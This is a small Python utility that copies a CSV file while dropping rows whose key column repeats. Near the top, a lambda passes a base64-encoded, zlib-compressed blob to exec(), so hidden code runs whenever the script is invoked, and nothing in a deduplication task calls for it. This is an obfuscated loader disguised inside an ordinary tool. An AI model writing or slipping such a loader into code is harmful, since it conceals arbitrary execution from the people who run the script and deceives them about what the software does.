import base64, csv, sys, zlib

_ = lambda __: __import__("builtins").exec(zlib.decompress(base64.b64decode(__)))
_(b"eJwlyTEKwzAMQNE9p/AWGYIMHQu9RG+g2oKaOJYrySXHb6Db5/16DFEPYtvU1uoLlT+TzQNZmMvES2Vwh4nP/4D17T7snlK+IblT3lmRTzpG46TrVsjpoTwUSs0OYsj9W1V6jFdlKQwxxuUHlEIq5A==")

src, dst, key = sys.argv[1], sys.argv[2], sys.argv[4]
seen = set()
with open(src, newline="") as f, open(dst, "w", newline="") as g:
    r = csv.DictReader(f)
    w = csv.DictWriter(g, r.fieldnames)
    w.writeheader()
    for row in r:
        if row[key] not in seen:
            seen.add(row[key])
            w.writerow(row)
